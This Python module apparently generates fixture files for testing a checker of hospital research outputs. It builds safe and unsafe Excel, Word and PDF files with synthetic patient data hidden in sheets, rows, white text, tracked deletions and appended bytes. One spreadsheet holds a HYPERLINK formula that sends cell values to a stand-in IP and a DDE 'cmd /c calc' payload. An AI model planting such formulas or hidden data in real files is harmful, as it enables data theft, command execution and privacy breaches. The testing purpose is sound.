"""Excel, Word and PDF with hidden or embedded things, and their honest neighbours."""

import io
import zipfile
from typing import Any

import docx
import pikepdf
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import RGBColor
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.styles import Font
from reportlab.pdfgen import canvas

from .figures import pdf_table
from .tools import counts, gen, ipp, nir, pc, person


def book(title: str, rows: list[list[Any]]) -> Workbook:
    wb = Workbook()
    wb.properties.creator = ""
    ws = wb.active
    ws.title = title
    for row in rows:
        ws.append(row)
    for cell in ws[1]:
        cell.font = Font(bold=True)
    return wb


def word(title: str, rows: list[list[str]], *text: str) -> Any:
    doc = docx.Document()
    p = doc.core_properties
    p.author = p.comments = p.last_modified_by = ""
    p.title = title
    doc.add_heading(title, 1)
    for line in text:
        doc.add_paragraph(line)
    if rows:
        table = doc.add_table(len(rows), len(rows[0]), style="Light Grid Accent 1")
        for i, row in enumerate(rows):
            for j, v in enumerate(row):
                table.cell(i, j).text = v
    return doc


def activity(r: Any, names: list[str]) -> list[list[Any]]:
    rows: list[list[Any]] = []
    for name, v in zip(names, counts(r, len(names), 150, 900), strict=True):
        e = round(v * r.uniform(0.12, 0.4))
        rows.append([name, v, e, pc(e, v)])
    return rows


def swap(path: Any, change: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path) as z:
        files = {i.filename: z.read(i) for i in z.infolist()}
    files.update(change)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(zipfile.ZipInfo(name, (2023, 1, 2, 0, 0, 0)), data)


def write(shelf: Any) -> None:
    unsafe_excel(shelf)
    unsafe_others(shelf)
    safe(shelf)


SPEC = ["Cardiologie", "Pneumologie", "Neurologie", "Gastro-entérologie", "Néphrologie", "Gériatrie", "Infectiologie"]
WARDS = ["Cardiology", "Respiratory", "Neurology", "Gastroenterology", "Renal", "Geriatrics", "Infectious diseases"]


def unsafe_excel(shelf: Any) -> None:
    r = shelf.random("of-u")
    wb = book("Synthèse", [["Service", "Patients", "Dénutris", "%"], *activity(r, SPEC)])
    ws = wb.create_sheet("extraction")
    ws.append(["n", "age", "sexe", "imc", "albumine"])
    for i in range(350):
        ws.append([i + 1, r.randint(30, 88), r.choice("FM"), round(r.uniform(15, 34), 1), r.randint(18, 44)])
    ws.sheet_state = "veryHidden"
    wb.save(
        shelf.unsafe(
            "office/denutrition.xlsx",
            "row-level data on a very hidden sheet",
            "sheet extraction",
            "Dénutrition par service.",
            "patients hospitalisés en 2022, sept services",
        )
    )

    rows = activity(r, WARDS)
    wb = book("Table 2", [["Ward", "Patients", "Delirium", "%"], *rows, ["Eye surgery", 141, 3, 2.1]])
    wb.active.row_dimensions[len(rows) + 2].hidden = True
    wb.save(
        shelf.unsafe(
            "office/delirium_wards.xlsx",
            "small cell in a hidden row",
            "last row",
            "Delirium by ward.",
            "adult patients of the wards shown",
        )
    )

    wb = book("Résultats", [["Service", "Séjours", "Réadmis", "%"], *activity(r, SPEC)])
    ws = wb.active
    for i in range(40):
        c = ws.cell(i + 2, 8, f"{ipp(r)}")
        c.number_format = ";;;"
    ws.column_dimensions["H"].hidden = False
    wb.save(
        shelf.unsafe(
            "office/readmissions.xlsx",
            "hospital numbers under a format which hides them",
            "column H, format ;;;",
            "Réadmissions par service.",
            "séjours de sept services",
        )
    )

    wb = book(
        "Fractures", [["Site", "n", "Operated", "%"], *activity(r, ["Hip", "Wrist", "Ankle", "Vertebra", "Humerus"])]
    )
    wb.active["F2"] = '=HYPERLINK("http://203.0.113.9/c?d="&B2&C2,"details")'
    wb.active["F3"] = "=cmd|'/c calc'!A0"
    wb.save(
        shelf.unsafe(
            "office/fractures.xlsx",
            "formula injection",
            "F2 and F3",
            "Operations by fracture site.",
            "adults with fracture, 2021",
        )
    )

    wb = book(
        "Indicateurs",
        [
            ["Indicateur", "N", "Atteint", "%"],
            *activity(r, ["Antibioprophylaxie", "Check-list", "Douleur tracée", "Consentement"]),
        ],
    )
    path = shelf.unsafe(
        "office/indicateurs.xlsm",
        "a macro",
        "xl/vbaProject.bin",
        "Indicateurs qualité du bloc.",
        "interventions de 2023",
    )
    wb.save(path)
    with zipfile.ZipFile(path) as z:
        types = (
            z.read("[Content_Types].xml")
            .replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            )
            .replace(
                b"</Types>",
                b'<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            )
        )
        rels = z.read("xl/_rels/workbook.xml.rels").replace(
            b"</Relationships>",
            b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
        )
    swap(
        path,
        {
            "[Content_Types].xml": types,
            "xl/_rels/workbook.xml.rels": rels,
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + b"\0" * 500
            + b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\nEnd Sub\r\n',
        },
    )


def unsafe_others(shelf: Any) -> None:
    r = shelf.random("of-v")
    text = [[str(v) for v in row] for row in [["Ward", "Patients", "Events", "%"], *activity(r, WARDS)]]
    doc = word("Adverse drug events by ward", text, "Events confirmed by the pharmacovigilance centre.")
    path = shelf.unsafe(
        "office/ade_report.docx",
        "a workbook of patients embedded in a Word file",
        "word/embeddings",
        "Report on adverse drug events by ward.",
        "patients of seven wards, 2022",
    )
    doc.save(path)
    wb = book(
        "src",
        [
            ["pid", "drug", "event_date", "age"],
            *[
                [
                    i + 1,
                    r.choice(["warfarin", "digoxin", "insulin"]),
                    f"2022-{r.randint(1, 12):02d}-{r.randint(1, 28):02d}",
                    r.randint(40, 88),
                ]
                for i in range(120)
            ],
        ],
    )
    buffer = io.BytesIO()
    wb.save(buffer)
    with zipfile.ZipFile(path) as z:
        types = z.read("[Content_Types].xml").replace(
            b"<Default ",
            b'<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/><Default ',
            1,
        )
        rels = z.read("word/_rels/document.xml.rels").replace(
            b"</Relationships>",
            b'<Relationship Id="rIdEmb" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package" Target="embeddings/Microsoft_Excel_Sheet1.xlsx"/></Relationships>',
        )
    swap(
        path,
        {
            "[Content_Types].xml": types,
            "word/_rels/document.xml.rels": rels,
            "word/embeddings/Microsoft_Excel_Sheet1.xlsx": buffer.getvalue(),
        },
    )

    text = [[str(v) for v in row] for row in [["Service", "Patients", "Chutes", "%"], *activity(r, SPEC)]]
    doc = word("Chutes à l'hôpital", text, "Analyse des chutes déclarées en 2022.")
    p = doc.add_paragraph("Les chutes graves sont décrites à part. ")
    gone = OxmlElement("w:del")
    gone.set(qn("w:id"), "7")
    gone.set(qn("w:author"), "")
    run, t = OxmlElement("w:r"), OxmlElement("w:delText")
    t.text = "Parmi elles, 3 patients sont décédés et 5 ont été opérés."
    run.append(t)
    gone.append(run)
    p._p.append(gone)
    doc.save(
        shelf.unsafe(
            "office/chutes_rapport.docx",
            "small cells in tracked deletions",
            "w:del of the last paragraph",
            "Rapport sur les chutes à l'hôpital.",
            "patients de sept services",
        )
    )

    doc = word(
        "Home discharge after stroke",
        [[str(v) for v in row] for row in [["Unit", "Patients", "Home", "%"], *activity(r, WARDS[:5])]],
        "Discharge destinations are given by unit.",
    )
    run = doc.add_paragraph().add_run(f"Source: {person(r)}, {nir(r)}")
    run.font.color.rgb = RGBColor(255, 255, 255)
    doc.save(
        shelf.unsafe(
            "office/home_discharge.docx",
            "name and NIR in white letters",
            "last paragraph",
            "Discharge home after stroke by unit.",
            "stroke patients of five units",
        )
    )

    path = shelf.unsafe(
        "office/bilan_transplant.pdf",
        "a table under a black rectangle can still be read",
        "text under the rectangle",
        "Bilan de transplantation, une ligne est occultée.",
        "612 patients transplantés",
    )
    c = canvas.Canvas(str(path), invariant=1)
    for i, line in enumerate(
        [
            "Bilan de transplantation 2018-2022",
            "Rein : 388 patients",
            "Foie : 161 patients",
            "Coeur : 59 patients",
            "Intestin : 4 patients",
        ]
    ):
        c.drawString(70, 780 - 24 * i, line)
    c.rect(66, 678, 200, 20, fill=1)
    c.save()

    path = shelf.unsafe(
        "office/pain_summary.pdf",
        "a note with a phone and a name",
        "text annotation on page 1",
        "Summary of pain scores by arm.",
        "1 044 patients, two arms",
    )
    pdf_table(
        path,
        "Pain at day 1",
        [["Arm", "n", "Median NRS", "Q1-Q3"], ["Block", "519", "3", "2-5"], ["Control", "525", "5", "3-6"]],
    )
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        note = pdf.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot,
                Subtype=pikepdf.Name.Text,
                Rect=[300, 600, 320, 620],
                Contents=f"Mrs {person(r)} called again, 06 71 {r.randint(10, 99)} {r.randint(10, 99)} {r.randint(10, 99)}",
            )
        )
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([note]))
        pdf.save(path, deterministic_id=True)

    path = shelf.unsafe(
        "office/prevalence_bmr.pdf",
        "rows after the end of a PDF",
        "after %%EOF",
        "Prévalence des BMR par service.",
        "patients dépistés de sept services",
    )
    pdf_table(
        path,
        "Prévalence des BMR",
        [[str(v) for v in row] for row in [["Service", "Dépistés", "Positifs", "%"], *activity(r, SPEC)]],
    )
    path.write_bytes(
        path.read_bytes()
        + "".join(
            f"{i};{r.choice('FM')};{r.randint(20, 88)};{r.choice(['EBLSE', 'SARM', 'neg'])}\n" for i in range(200)
        ).encode()
    )


def safe(shelf: Any) -> None:
    r, g = shelf.random("of-s"), gen(shelf, "of-s")
    wb = book("Activité", [["Service", "Séjours", "Urgents", "%"], *activity(r, SPEC)])
    chart = BarChart()
    chart.add_data(Reference(wb.active, min_col=2, min_row=1, max_row=8), titles_from_data=True)
    chart.set_categories(Reference(wb.active, min_col=1, min_row=2, max_row=8))
    wb.active.add_chart(chart, "G2")
    wb.save(
        shelf.safe(
            "office/activite_services.xlsx",
            "a chart beside the table",
            "Séjours et part des urgences par service.",
            "séjours de sept services en 2023",
        )
    )

    wb = book("Totals", [["Ward", "Patients", "Infections", "%"], *activity(r, WARDS)])
    wb.active["A10"], wb.active["B10"], wb.active["C10"] = "Total", "=SUM(B2:B8)", "=SUM(C2:C8)"
    wb.active["D10"] = "=ROUND(100*C10/B10,1)"
    wb.save(
        shelf.safe(
            "office/infections_total.xlsx",
            "ordinary formulas",
            "Infections by ward with totals.",
            "patients of seven wards",
        )
    )

    wb = book(
        "Modèle",
        [
            ["Variable", "OR", "IC bas", "IC haut", "p"],
            *[
                [v, o, round(o / 1.18, 2), round(o * 1.18, 2), p]
                for v, o, p in (
                    ("Âge (10 ans)", 1.21, 0.002),
                    ("Sexe masculin", 1.05, 0.54),
                    ("Obésité", 1.44, 0.0003),
                    ("Tabac", 1.63, 0.00001),
                    ("Apnées du sommeil", 1.29, 0.008),
                )
            ],
        ],
    )
    wb.active["E2"].comment = Comment("test de Wald", "")
    wb.active.freeze_panes = "B2"
    wb.save(
        shelf.safe(
            "office/modele_or.xlsx",
            "a cell comment and p-values",
            "Modèle logistique des complications respiratoires.",
            "5 231 patients opérés",
        )
    )

    wb = book(
        "Codes",
        [
            ["ICD-10", "Label", "Group"],
            ["I63.0", "Infarction, precerebral thrombosis", 1],
            ["I63.4", "Infarction, cerebral embolism", 1],
            ["I61.9", "Intracerebral haemorrhage", 2],
            ["G45.9", "Transient ischaemic attack", 3],
        ],
    )
    ws = wb.create_sheet("Counts")
    for row in [
        ["Group", "Label", "Patients"],
        *[
            [i + 1, a, v]
            for i, (a, v) in enumerate(zip(["infarction", "haemorrhage", "TIA"], counts(r, 3, 200, 900), strict=True))
        ],
    ]:
        ws.append(row)
    wb.save(
        shelf.safe(
            "office/stroke_codes.xlsx",
            "group numbers 1 to 3",
            "Code groups and number of patients by group.",
            "stroke patients, 2020-2022",
        )
    )

    wb = book(
        "Questionnaire",
        [
            ["Item", "Répondants", "Médiane", "Q1", "Q3"],
            *[
                [f"Q{i}", v, m, m - 1, m + 1]
                for i, (v, m) in enumerate(zip(counts(r, 8, 800, 1400), [6, 7, 5, 8, 4, 6, 7, 5], strict=True), 1)
            ],
        ],
    )
    wb.active.auto_filter.ref = "A1:E9"
    wb.save(
        shelf.safe(
            "office/satisfaction.xlsx",
            "scores from 0 to 10 and a filter",
            "Satisfaction des patients par question (échelle 0-10).",
            "environ 1 400 répondants par vague",
        )
    )

    rows = [["", "Control (n=902)", "Telehealth (n=911)", "p"]]
    for name, a, b, p in (
        ("Women", 431, 455, "0.36"),
        ("Diabetes", 202, 219, "0.41"),
        ("Ischaemic cause", 488, 471, "0.29"),
        ("ICD implanted", 131, 144, "0.45"),
    ):
        rows.append([name, f"{a} ({pc(a, 902)}%)", f"{b} ({pc(b, 911)}%)", p])
    doc = word(
        "Table 1. Baseline characteristics",
        rows,
        "Median age was 71 years [IQR 63-79] in both arms.",
        "Trial in 7 centres with block sizes of 4 and 6.",
    )
    doc.save(
        shelf.safe(
            "office/telehealth_table1.docx",
            "centres and block sizes",
            "Baseline characteristics of the telehealth trial.",
            "1 813 patients with heart failure",
        )
    )

    doc = word(
        "Méthodes",
        [],
        "Étude rétrospective sur données de l'entrepôt, version 2 du protocole.",
        "Les effectifs inférieurs à 10 ont été masqués. Trois analyses de sensibilité ont été prévues et 5 imputations réalisées.",
        "Le seuil de signification est de 5 %. Modèle mixte avec un effet aléatoire de l'établissement (8 établissements).",
    )
    doc.save(
        shelf.safe(
            "office/methodes.docx", "text full of small numbers", "Section méthodes de l'article.", "12 402 séjours"
        )
    )

    doc = word(
        "Indicateurs qualité 2023",
        [[str(v) for v in row] for row in [["Unité", "Dossiers", "Conformes", "%"], *activity(r, SPEC[:6])]],
        "Rapport présenté au comité le 12 mars 2024.",
        "Objectif national : 80 %. Rang de l'établissement : 3 sur 14.",
    )
    doc.save(
        shelf.safe(
            "office/qualite_2023.docx",
            "the date of a meeting and a rank",
            "Indicateurs qualité par unité, rapport au comité.",
            "dossiers audités de six unités",
        )
    )

    rows = [
        ["Outcome", "HR", "95% CI", "p"],
        ["Death", "0.88", "0.79-0.98", "0.02"],
        ["Readmission", "0.93", "0.86-1.01", "0.09"],
        ["Stroke", "0.97", "0.80-1.18", "0.76"],
        ["Major bleeding", "1.12", "0.97-1.29", "0.12"],
    ]
    doc = word("Hazard ratios by outcome", rows, "Marginal structural Cox models; 8 214 patients and 1 933 deaths.")
    doc.sections[0].footer.paragraphs[0].text = "Page 1 of 1 - draft 4"
    doc.save(
        shelf.safe(
            "office/hr_outcomes.docx",
            "footer with page and draft numbers",
            "Hazard ratios of the four outcomes.",
            "8 214 patients on anticoagulants",
        )
    )

    pdf_table(
        shelf.safe(
            "office/delais_imagerie.pdf",
            "medians of days below 10",
            "Délais d'obtention de l'imagerie par examen.",
            "plus de 8 000 demandes",
        ),
        "Délais d'imagerie",
        [
            ["Examen", "Demandes", "Délai médian (j)", "Q1-Q3"],
            *[
                [a, str(v), m, q]
                for a, v, m, q in zip(
                    ["Scanner", "IRM", "Échographie", "Scintigraphie", "TEP"],
                    counts(r, 5, 900, 2600),
                    ["3", "9", "2", "6", "8"],
                    ["1-6", "4-17", "1-5", "3-9", "5-12"],
                    strict=True,
                )
            ],
        ],
    )

    path = shelf.safe(
        "office/protocol_summary.pdf",
        "bookmarks and a link",
        "Summary of the study and main result.",
        "6 402 adults with asthma",
    )
    c = canvas.Canvas(str(path), invariant=1)
    c.setTitle("Asthma study")
    c.bookmarkPage("p1")
    c.addOutlineEntry("Summary", "p1")
    for i, line in enumerate(
        [
            "Inhaled steroids and fractures in asthma",
            "6 402 adults, 5 regions, follow-up median 4.2 years (Q1-Q3 2.1-6.8)",
            "Primary outcome: 318 fractures, adjusted HR 1.14 (95% CI 0.98-1.32)",
            "Methods: https://www.strobe-statement.org",
        ]
    ):
        c.drawString(70, 780 - 24 * i, line)
    c.linkURL("https://www.strobe-statement.org", (70, 700, 300, 720))
    c.save()

    rows = [["Année", "Naissances", "Prématurés", "%"]]
    for y, v in zip(range(2016, 2024), counts(r, 8, 2700, 3300), strict=True):
        e = round(v * float(g.uniform(0.075, 0.095)))
        rows.append([str(y), str(v), str(e), str(pc(e, v))])
    pdf_table(
        shelf.safe(
            "office/prematurite.pdf",
            "eight years of rates below 10 %",
            "Taux de prématurité par an à la maternité.",
            "environ 3 000 naissances par an",
        ),
        "Prématurité",
        rows,
        "Maternité de type 3.",
    )
